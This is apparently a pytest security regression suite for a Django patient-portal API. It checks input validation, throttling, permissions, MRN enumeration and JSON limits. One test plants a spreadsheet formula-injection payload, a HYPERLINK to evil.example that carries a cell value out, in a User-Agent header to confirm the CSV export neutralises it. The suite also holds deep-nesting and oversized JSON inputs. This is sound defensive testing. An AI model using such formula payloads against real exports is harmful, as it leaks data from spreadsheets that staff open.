"""Input edges, as the security review found them: odd ids, spreadsheet formulas, anonymous noise,
the browsable API's forms, and who may attach a caregiver."""

from __future__ import annotations

import csv
import io
import json

import pytest
from rest_framework.test import APIClient

from portal.ids import ID_MAX, parse_id
from portal.models import AuditEvent, Patient

pytestmark = pytest.mark.django_db

ODD_IDS = ["²", "٣", "1²", str(ID_MAX + 1), "9" * 40, "-1", "1.5", "0x10"]


@pytest.mark.parametrize("value", ODD_IDS)
def test_the_history_page_answers_an_odd_patient_filter_with_a_400_not_a_500(client, people, value):
    client.force_login(people.alice)
    response = client.get("/scans/", {"patient": value})
    assert response.status_code == 400
    assert "patient" in response.content.decode()


@pytest.mark.parametrize("value", ODD_IDS)
def test_the_api_answers_an_odd_patient_filter_with_a_400_not_a_500(api, people, value):
    assert api(people.alice).get("/api/v1/scans/", {"patient": value}).status_code == 400


@pytest.mark.parametrize(
    "path",
    [
        "/scans/{}/",
        "/scans/patients/{}/",
        "/api/v1/scans/{}/",
        "/api/v1/patients/{}/",
        "/api/v1/patients/{}/timeline/",
        "/api/v1/scans/{}/image/",
    ],
)
def test_an_id_past_64_bits_in_a_path_is_not_found_not_a_server_error(client, people, path):
    client.force_login(people.alice)
    for value in (str(ID_MAX + 1), "9" * 40):
        assert client.get(path.format(value)).status_code == 404


def test_a_row_id_is_ascii_digits_within_64_bits():
    assert parse_id("42") == 42 and parse_id(str(ID_MAX)) == ID_MAX
    assert [parse_id(value) for value in ODD_IDS + ["", " 1"]] == [None] * (len(ODD_IDS) + 2)


def test_the_audit_export_neutralises_spreadsheet_formulas(client, django_user_model, people, api):
    api(people.alice).get(
        f"/api/v1/patients/{people.patient.id}/", HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"open")'
    )
    admin = django_user_model.objects.create_superuser("root", "root@example.org", "pw-for-admin-tests")
    client.force_login(admin)
    event = AuditEvent.objects.get(username="alice")
    export = client.post("/admin/portal/auditevent/", {"action": "export_csv", "_selected_action": [event.id]})
    rows = list(csv.reader(io.StringIO(export.content.decode())))
    agent = rows[1][rows[0].index("user_agent")]
    assert agent == """'=HYPERLINK("http://evil.example/?"&A1,"open")"""


def test_anonymous_requests_write_no_audit_rows(client, people):
    for path in (f"/api/v1/patients/{people.patient.id}/", "/api/v1/scans/", f"/scans/patients/{people.patient.id}/"):
        assert client.get(path).status_code in {401, 302}
    assert not AuditEvent.objects.exists()


@pytest.fixture
def anon_rate_3(settings):
    from rest_framework.settings import api_settings
    from rest_framework.throttling import SimpleRateThrottle

    rates = settings.REST_FRAMEWORK["DEFAULT_THROTTLE_RATES"]
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": {**rates, "anon": "3/min"}}
    api_settings.reload()
    SimpleRateThrottle.THROTTLE_RATES = api_settings.DEFAULT_THROTTLE_RATES
    yield
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "DEFAULT_THROTTLE_RATES": rates}
    api_settings.reload()
    SimpleRateThrottle.THROTTLE_RATES = api_settings.DEFAULT_THROTTLE_RATES


def test_anonymous_api_requests_are_throttled_per_address(anon_rate_3):
    prober = APIClient(REMOTE_ADDR="2001:db8::7")
    codes = [prober.get("/api/v1/scans/", HTTP_X_FORWARDED_FOR=f"203.0.113.{n}").status_code for n in range(5)]
    assert codes == [401, 401, 401, 429, 429]


@pytest.mark.parametrize("header", ["Token 0123456789abcdef", "Token " + "f" * 64, "Token", "Bearer x"])
def test_credentials_that_fail_count_against_the_anonymous_rate(anon_rate_3, header, people, api):
    """A made-up token once skipped the anonymous throttle: 150 requests, no 429."""
    prober = APIClient(REMOTE_ADDR="198.51.100.9")
    codes = [prober.get("/api/v1/scans/", HTTP_AUTHORIZATION=header).status_code for _ in range(5)]
    assert codes == [401, 401, 401, 429, 429]
    assert api(people.alice).get("/api/v1/scans/").status_code == 200  # a real token is not counted
    for path in ("/api/v1/auth/logout/", "/api/v1/auth/logout-all/"):  # knox's own views, counted too
        assert prober.post(path, HTTP_AUTHORIZATION=header).status_code == 429


def test_the_browsable_api_is_off_so_its_forms_list_no_caregivers(api, people):
    response = api(people.carol).get("/api/v1/patients/", HTTP_ACCEPT="text/html")
    assert response["Content-Type"].startswith("application/json") or response.status_code == 406
    assert b"<form" not in response.content and people.dave.username.encode() not in response.content


def test_a_clinician_cannot_attach_a_caregiver_to_a_new_patient(api, people):
    from portal.models import Caregiver

    dave = Caregiver.objects.get(user=people.dave)
    response = api(people.alice).post(
        "/api/v1/patients/", {"mrn": "MRN-NEW-1", "full_name": "New Patient", "caregivers": [dave.id]}, format="json"
    )
    assert response.status_code == 403
    assert not Patient.objects.filter(mrn="MRN-NEW-1").exists()


def test_the_staff_desk_can_attach_a_caregiver(api, people):
    from portal.models import Caregiver

    dave = Caregiver.objects.get(user=people.dave)
    response = api(people.triage).post(
        "/api/v1/patients/",
        {"mrn": "MRN-NEW-2", "full_name": "New Patient", "care_team": people.team.id, "caregivers": [dave.id]},
        format="json",
    )
    assert response.status_code == 201
    assert list(Patient.objects.get(mrn="MRN-NEW-2").caregivers.all()) == [dave]


def test_registering_a_patient_does_not_tell_a_clinician_whether_another_team_knows_the_mrn(api, people):
    """The attack: register MRNs one by one; a different answer for a known one enumerates them."""
    known_elsewhere = people.other_patient.mrn  # Li Wei, in the other care team
    answers = []
    for mrn in (known_elsewhere, "MRN-NEVER-SEEN"):
        response = api(people.alice).post(
            "/api/v1/patients/", {"mrn": mrn, "full_name": "Walk-in Patient"}, format="json"
        )
        answers.append((response.status_code, sorted(response.json())))
    assert (
        answers[0]
        == answers[1]
        == (
            201,
            [
                "care_team",
                "caregivers",
                "created_at",
                "date_of_birth",
                "full_name",
                "id",
                "known_palsy_severity",
                "known_palsy_side",
                "known_palsy_since",
                "mrn",
            ],
        )
    )
    # Alice's team has a record of its own; the other team's record is untouched and still unseen by her.
    assert Patient.objects.filter(mrn=known_elsewhere).count() == 2
    assert Patient.objects.get(id=people.other_patient.id).full_name == "Li Wei"
    assert api(people.alice).get(f"/api/v1/patients/{people.other_patient.id}/").status_code == 404
    # Naming the other team outright is refused the same way whatever the MRN.
    for mrn in (known_elsewhere, "MRN-NEVER-SEEN-2"):
        response = api(people.alice).post(
            "/api/v1/patients/", {"mrn": mrn, "full_name": "X", "care_team": people.other_team.id}, format="json"
        )
        assert response.status_code == 403


def test_a_second_registration_in_the_same_team_is_refused_as_a_duplicate(api, people):
    response = api(people.alice).post(
        "/api/v1/patients/", {"mrn": people.patient.mrn, "full_name": "Again"}, format="json"
    )
    assert response.status_code == 400
    assert "already registered in this care team" in response.json()["mrn"][0]


def test_staff_see_how_many_records_share_an_mrn_in_the_admin(api, people, client):
    api(people.alice).post("/api/v1/patients/", {"mrn": people.other_patient.mrn, "full_name": "Li Wei"}, format="json")
    people.triage.is_superuser = True
    people.triage.save()
    client.force_login(people.triage)
    page = client.get(f"/admin/portal/patient/?q={people.other_patient.mrn}").content.decode()
    assert page.count(people.other_patient.mrn) >= 2
    assert '<td class="field-records_of_this_mrn">2</td>' in page


def _json_routes(people) -> list[tuple[str, object]]:
    """Every API route that reads a JSON body (acknowledge and the logouts read none; an upload is multipart)."""
    from alerts.services import alert_raise
    from tests import factories

    result = factories.ScanResultFactory(scan__patient=people.patient)
    alert = alert_raise(scan=result.scan, result=result)
    return [
        ("/api/v1/auth/token/", None),  # anonymous
        ("/api/v1/patients/", people.triage),
        (f"/api/v1/alerts/{alert.id}/resolve/", people.alice),
        ("/api/v1/push/subscription/", people.alice),
    ]


@pytest.fixture
def push_configured(settings):
    settings.VAPID_PRIVATE_KEY, settings.VAPID_PUBLIC_KEY = "private-key-for-tests", "public-key-for-tests"


def test_json_nested_too_deep_is_a_400_with_a_reason_on_every_route(api, people, push_configured):
    deep = "[" * 1000 + "]" * 1000
    for path, user in _json_routes(people):
        client = api(user)
        client.raise_request_exception = False  # a RecursionError was a 500 on four of them
        response = client.post(path, deep, content_type="application/json")
        assert response.status_code == 400, (path, response.status_code)
        assert "nested too deeply" in response.json()["detail"], path


def test_a_json_body_past_the_cap_is_refused_unparsed(api, people, settings, push_configured):
    settings.API_JSON_MAX_BYTES = 2048
    big = json.dumps({"mrn": "M-1", "full_name": "x" * 4000})
    for path, user in _json_routes(people):
        response = api(user).post(path, big, content_type="application/json")
        assert response.status_code == 413, (path, response.status_code)
        assert "at most 2048 bytes" in response.json()["detail"], path
    assert not Patient.objects.filter(mrn="M-1").exists()


def test_ordinary_json_still_parses(api, people):
    response = api(people.triage).post(
        "/api/v1/patients/", {"mrn": "MRN-JSON-1", "full_name": "Ana Lima"}, format="json"
    )
    assert response.status_code == 201 and Patient.objects.filter(mrn="MRN-JSON-1").exists()
